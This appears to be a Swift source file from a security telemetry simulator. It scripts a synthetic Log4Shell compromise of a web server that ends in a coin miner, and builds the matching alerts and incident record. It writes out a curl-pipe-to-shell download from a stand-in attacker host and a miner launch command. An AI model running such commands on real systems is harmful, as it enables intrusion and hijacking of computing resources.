/// A web server with an old Log4j is found and made to dig for coins.
///
/// Nine days before the end a request with a crafted header reaches the Java program on web03, which loads code from the
/// attacker's directory server, fetches a script and starts a miner. Vulnerability management knows CVE-2021-44228 on
/// web03. Nobody has taken the incident up: it waits for an action.
struct VulnerableServerStory {
    let company: Company

    static let incident = 4120
    static let cve = "CVE-2021-44228"
    static let attackerIP = "203.0.113.199"
    static let directoryURL = "ldap://ldap.exploit-lab.example:1389/a"
    static let scriptURL = "http://203.0.113.199:8000/x.sh"
    static let poolHost = "pool.coinshare.example"
    static let poolIP = "203.0.113.200"

    static let script = ProgramFile("x.sh", in: "/tmp", size: 2_114)
    static let miner = ProgramFile("kdevtmp", in: "/tmp/.x", size: 6_214_400)

    private var server: Device { company.device("web03") }

    func happen(in chronicle: inout Chronicle) {
        let start = chronicle.ago(9 * Ticks.day + Ticks.hour)
        let session = DeviceSession(device: server, now: chronicle.now)
        let java = session.workers[2]
        exploit(java, at: start, in: &chronicle)
        let minerRun = install(java, at: start + 5 * Ticks.second, in: &chronicle)
        for beat in 0..<48 {
            chronicle.connections.append(
                NetworkEvent(
                    time: start + Ticks.minute + Int64(beat) * Ticks.hour,
                    device: server,
                    remoteIP: Self.poolIP,
                    remotePort: 3333,
                    remoteURL: Self.poolHost,
                    localPort: Int32(40_000 + beat),
                    initiating: minerRun
                )
            )
        }
        chronicle.alerts += alerts(java: java, miner: minerRun, start: start)
        chronicle.incidents.append(
            IncidentRecord(
                number: Self.incident,
                title: "Exploited web server runs a coin miner",
                severity: .high,
                status: "awaitingAction",
                created: start + 4 * Ticks.minute,
                updated: start + 2 * Ticks.day,
                customTags: ["Internet facing"],
                priority: 84
            )
        )
    }

    private func exploit(_ java: ProcessRun, at time: Int64, in chronicle: inout Chronicle) {
        chronicle.connections.append(
            NetworkEvent(
                time: time,
                device: server,
                action: "InboundConnectionAccepted",
                remoteIP: Self.attackerIP,
                remotePort: 55_410,
                localPort: 8080,
                initiating: java
            )
        )
        chronicle.connections.append(
            NetworkEvent(
                time: time + Ticks.second,
                device: server,
                remoteIP: Self.attackerIP,
                remotePort: 1389,
                remoteURL: "ldap.exploit-lab.example",
                localPort: 41_200,
                initiating: java
            )
        )
    }

    private func install(_ java: ProcessRun, at time: Int64, in chronicle: inout Chronicle) -> ProcessRun {
        let shell = chronicle.run(
            ProcessRun(
                Programs.shell,
                id: 20_114,
                created: time,
                commandLine: "/bin/sh -c curl -s \(Self.scriptURL) | sh",
                account: java.account,
                parent: java
            ),
            on: server,
            by: java
        )
        let curl = chronicle.run(
            ProcessRun(
                Programs.curl,
                id: 20_115,
                created: time + Ticks.second,
                commandLine: "curl -s \(Self.scriptURL)",
                account: java.account,
                parent: shell
            ),
            on: server,
            by: shell
        )
        download(by: curl, at: time, in: &chronicle)
        return chronicle.run(
            ProcessRun(
                Self.miner,
                id: 20_131,
                created: time + 4 * Ticks.second,
                commandLine: "/tmp/.x/kdevtmp -o \(Self.poolHost):3333",
                account: java.account,
                parent: shell
            ),
            on: server,
            by: shell
        )
    }

    private func download(by curl: ProcessRun, at time: Int64, in chronicle: inout Chronicle) {
        chronicle.connections.append(
            NetworkEvent(
                time: time + Ticks.second,
                device: server,
                remoteIP: Self.attackerIP,
                remotePort: 8000,
                remoteURL: Self.scriptURL,
                localPort: 41_202,
                initiating: curl
            )
        )
        for file in [Self.script, Self.miner] {
            chronicle.files.append(
                FileEvent(
                    time: time + 2 * Ticks.second,
                    device: server,
                    file: file,
                    originURL: Self.scriptURL,
                    originIP: Self.attackerIP,
                    initiating: curl
                )
            )
        }
    }

    private func alerts(java: ProcessRun, miner: ProcessRun, start: Int64) -> [AlertRecord] {
        let device = EvidenceRecord(.device(server), roles: ["attacked"], detailedRoles: ["PrimaryDevice"])
        let attacker = EvidenceRecord(
            .ip(Self.attackerIP),
            verdict: "malicious",
            remediation: "none",
            roles: ["attacker"]
        )
        return [
            AlertRecord(
                service: .endpoint,
                sensor: .endpoint,
                key: "server:exploit",
                title: "Possible exploitation of \(Self.cve)",
                description: "A Java process connected to a directory server on the Internet and started a shell.",
                category: "InitialAccess",
                severity: .high,
                techniques: ["T1190"],
                activity: start...(start + 5 * Ticks.second),
                incident: Self.incident,
                device: server,
                evidence: [
                    device, attacker, EvidenceRecord(.process(java, on: server)),
                    EvidenceRecord(.url(Self.directoryURL), verdict: "malicious", remediation: "none"),
                    EvidenceRecord(.url(Self.scriptURL), verdict: "malicious", remediation: "none"),
                ]
            ),
            AlertRecord(
                service: .endpoint,
                sensor: .antivirus,
                key: "server:miner",
                title: "Coin miner is running",
                description: "A program in a hidden folder below /tmp talks to a mining pool.",
                category: "Malware",
                severity: .medium,
                techniques: ["T1496"],
                activity: (start + Ticks.minute)...(start + 2 * Ticks.day),
                incident: Self.incident,
                threatFamily: "CoinMiner",
                device: server,
                evidence: [
                    device, EvidenceRecord(.process(miner, on: server), verdict: "malicious"),
                    EvidenceRecord(.file(Self.miner, on: server), verdict: "malicious"),
                    EvidenceRecord(.ip(Self.poolIP), verdict: "malicious", remediation: "none"),
                ]
            ),
        ]
    }
}
